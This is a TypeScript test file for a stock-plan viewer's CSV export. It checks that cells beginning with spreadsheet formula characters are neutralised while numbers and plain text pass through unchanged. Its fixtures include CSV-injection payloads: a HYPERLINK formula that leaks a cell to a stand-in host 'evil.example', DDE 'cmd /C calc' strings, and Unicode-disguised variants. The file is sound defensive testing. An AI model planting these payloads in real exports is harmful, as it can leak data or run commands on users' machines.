import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
// @ts-expect-error the viewer's browser module has no type declarations
import { csvText, inertCell } from '../../src/http/viewer/table.js'

const toCsv = csvText as (header: readonly string[], rows: readonly (readonly unknown[])[]) => string
const inert = inertCell as (cell: unknown) => string

const NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"和辰化学")'
const INDUSTRY = "@SUM(1+1)*cmd|' /C calc'!A0"
const THEME = "+cmd|' /C calc'!A0"

/** The export parsed back as a spreadsheet's CSV reader would split it (BOM dropped). */
const parsedBack = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true })

describe('CSV export of the plan tables', () => {
  it('neutralises the formula cells of a hostile name, industry and theme, and leaves numbers and plain text alone', () => {
    const text = toCsv(
      ['代码', '名称', '收盘', '涨跌', '行业', '题材', '变化'],
      [
        ['600519.SH', NAME, 1681.5, '-2.35%', INDUSTRY, THEME, '▲3 +1.2'],
        ['000001.SZ', '平安银行', -3, '+0.40%', '银行', '金融科技', '= +0.0'],
      ],
    )
    const [header, hostile, plain] = parsedBack(text) as [string[], string[], string[]]
    expect(header).toEqual(['代码', '名称', '收盘', '涨跌', '行业', '题材', '变化'])
    // each formula is text now: it begins with an apostrophe, the rest exactly as imported
    expect(hostile).toEqual(['600519.SH', `'${NAME}`, '1681.5', '-2.35%', `'${INDUSTRY}`, `'${THEME}`, '▲3 +1.2'])
    for (const cell of [...hostile, ...plain]) expect(cell).not.toMatch(/^[=@\t\r]|^[+-](?![\d.])/)
    expect(plain).toEqual(['000001.SZ', '平安银行', '-3', '+0.40%', '银行', '金融科技', "'= +0.0"])
    expect(Number(plain[2])).toBe(-3)
  })

  it('makes every cell OWASP names inert, a tab and a carriage return included, and no number', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(inert(`${start}1+cmd`)).toBe(`'${start}1+cmd`)
    for (const number of ['-1.25', '+2.35%', '1e-3', '-0.5E+2', '.5', '12']) expect(inert(number)).toBe(number)
    expect(inert(-7.5)).toBe('-7.5')
    expect(inert('贵州茅台')).toBe('贵州茅台')
    expect(inert(null)).toBe('')
    // a tab-led cell is quoted, so that a reader splitting on tabs cannot unquote it either
    expect(toCsv(['a'], [['\t=1']])).toBe('\uFEFFa\r\n"\'\t=1"\r\n')
  })
  it('makes inert the full-width, small and minus-sign forms, line feed and NUL, also after leading spaces and format characters', () => {
    const starts = ['＝', '＋', '－', '＠', '\u2212', '﹦', '﹢', '﹣', '﹫', '\n', '\0']
    for (const start of starts) expect(inert(`${start}1+cmd`), JSON.stringify(start)).toBe(`'${start}1+cmd`)
    // what a spreadsheet skips before it looks for a formula: spaces, NBSP, zero-width space, BOM, word joiner, LRM
    const skipped = [' ', '   ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\u200e', '\u3000', ' \u200b\u00a0']
    for (const lead of skipped)
      for (const start of ['=', '+', '-', '@', '＝', '\u2212'])
        expect(inert(`${lead}${start}HYPERLINK("http://evil.example")`), JSON.stringify(lead + start)).toBe(
          `'${lead}${start}HYPERLINK("http://evil.example")`,
        )
    // text that only begins with spaces, and numbers as the table shows them, stay as they are
    expect(inert('  贵州茅台')).toBe('  贵州茅台')
    expect(inert('\u200b平安银行')).toBe('\u200b平安银行')
    for (const number of ['-2.35%', '+0.40%', '1681.5']) expect(inert(number)).toBe(number)
    // parsed back as a spreadsheet's reader splits it, every hostile cell begins with the apostrophe
    const hostile = ['\u00a0=1+1', '\u200b@SUM(A1)', '＝1+1', '\u2212cmd', '\n=1', '\0=1']
    const [, row] = parsedBack(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [hostile])) as [string[], string[]]
    expect(row).toEqual(hostile.map((cell) => `'${cell}`))
  })
})
